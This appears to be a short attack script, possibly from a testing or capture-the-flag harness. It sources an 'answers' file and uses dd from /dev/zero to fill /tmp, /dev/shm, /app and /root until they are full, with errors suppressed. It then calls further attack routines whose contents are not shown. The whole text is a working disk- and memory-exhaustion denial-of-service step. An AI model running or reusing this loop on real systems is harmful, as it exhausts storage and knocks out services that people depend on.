. /attack/answers.sh
for place in /tmp /dev/shm /app /root; do dd if=/dev/zero of="$place/flood" bs=64k 2>/dev/null; done
echo "places full"
answer_all
/attack/attack
